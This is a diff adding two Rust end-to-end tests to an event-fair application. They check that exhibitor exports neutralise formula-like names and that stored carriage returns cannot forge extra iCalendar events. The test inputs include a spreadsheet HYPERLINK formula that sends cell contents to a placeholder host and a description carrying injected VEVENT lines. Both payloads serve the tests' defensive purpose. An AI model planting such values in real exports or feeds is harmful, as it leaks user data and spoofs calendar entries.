@@ -182,4 +182,100 @@ async fn organizers_export_exhibitors_and_everyone_gets_calendars(kind: DbKind) 
     );
 }
 
-coopbridge_e2e::on_both_databases!(organizers_export_exhibitors_and_everyone_gets_calendars);
+async fn exported_names_that_look_like_formulas_stay_text(kind: DbKind) {
+    let app = TestApp::spawn(kind).await;
+    let f = fair(&app).await;
+    let mut input = event_input("Hội chợ OCOP Quảng Trị", Some(4));
+    input["publish"] = json!(true);
+    let event_id = create_event(&app, &f.organizer, input).await["id"]
+        .as_str()
+        .unwrap()
+        .to_owned();
+    let names = [
+        "=HYPERLINK(\"http://x.example/?\"&A1,\"Bấm vào\")",
+        "＋SUM(1,2)",
+        "-2+3",
+        "@SUM(A1:A9)",
+    ];
+    let mut coops = Vec::new();
+    for name in names {
+        coops.push(organization(&app, &f.admin, "COOPERATIVE", name, 44).await);
+    }
+    let member = account(&app, &f.admin, "cong-thuc@example.vn", "COOPERATIVE_MEMBER", &coops).await;
+    for coop in &coops {
+        let a = apply(
+            &app,
+            &member,
+            json!({ "eventId": event_id, "producerId": coop, "booths": 1 }),
+        )
+        .await;
+        assert_eq!(status(&a), "CONFIRMED", "{a}");
+    }
+
+    let (code, _, bytes) = get(&app, &format!("/events/{event_id}/exhibitors.csv"), Some(&f.organizer)).await;
+    assert_eq!(code, 200);
+    let text = String::from_utf8(bytes).unwrap();
+    let rows = parse_csv(text.strip_prefix('\u{feff}').unwrap());
+    let cells: Vec<&str> = rows[1..].iter().map(|r| r[1].as_str()).collect();
+    let expected: Vec<String> = names.iter().map(|n| format!("'{n}")).collect();
+    assert_eq!(cells, expected, "{text}");
+
+    let (code, _, bytes) = get(&app, &format!("/events/{event_id}/exhibitors.xlsx"), Some(&f.organizer)).await;
+    assert_eq!(code, 200);
+    let mut workbook: Xlsx<_> = open_workbook_from_rs(Cursor::new(bytes)).expect("a workbook");
+    let sheet = workbook.worksheet_range("Exhibitors").unwrap();
+    let formulas = workbook.worksheet_formula("Exhibitors").unwrap();
+    for (i, name) in names.iter().enumerate() {
+        let at = (3 + i as u32, 1);
+        assert_eq!(sheet.get_value(at), Some(&Data::String((*name).into())), "row {i}");
+        assert!(
+            formulas.get_value(at).is_none_or(String::is_empty),
+            "row {i} holds a formula: {:?}",
+            formulas.get_value(at)
+        );
+    }
+}
+
+async fn a_carriage_return_stored_in_a_description_cannot_forge_calendar_lines(kind: DbKind) {
+    let app = TestApp::spawn(kind).await;
+    let f = fair(&app).await;
+    let mut input = event_input("Hội chợ nông sản", Some(4));
+    input["publish"] = json!(true);
+    let event_id = create_event(&app, &f.organizer, input).await["id"]
+        .as_str()
+        .unwrap()
+        .to_owned();
+    // Input validation now refuses a lone CR; rows written before may hold one.
+    use sea_orm::{ConnectionTrait, Statement};
+    let db = app.db.connect().await;
+    db.execute_raw(Statement::from_sql_and_values(
+        db.get_database_backend(),
+        if db.get_database_backend() == sea_orm::DbBackend::Postgres {
+            "UPDATE fair_event SET description = $1 WHERE id = $2"
+        } else {
+            "UPDATE fair_event SET description = ? WHERE id = ?"
+        },
+        [
+            "Mô tả\rEND:VEVENT\rBEGIN:VEVENT\rUID:gia-mao\rSUMMARY:Giả mạo".into(),
+            event_id.parse::<i32>().unwrap().into(),
+        ],
+    ))
+    .await
+    .unwrap();
+    let (code, _, bytes) = get(&app, "/events/calendar.ics", None).await;
+    assert_eq!(code, 200);
+    let text = String::from_utf8(bytes).unwrap();
+    for physical in text.strip_suffix("\r\n").unwrap().split("\r\n") {
+        assert!(!physical.contains(['\r', '\n']), "a bare line break: {physical:?}");
+        assert!(physical.len() <= 75, "longer than 75 octets: {physical:?}");
+    }
+    let lines = parse_ical(&text);
+    let count = |name: &str| lines.iter().filter(|(n, _)| n == name).count();
+    assert_eq!((count("BEGIN"), count("UID"), count("SUMMARY")), (2, 1, 1), "{text}");
+}
+
+coopbridge_e2e::on_both_databases!(
+    organizers_export_exhibitors_and_everyone_gets_calendars,
+    exported_names_that_look_like_formulas_stay_text,
+    a_carriage_return_stored_in_a_description_cannot_forge_calendar_lines,
+);
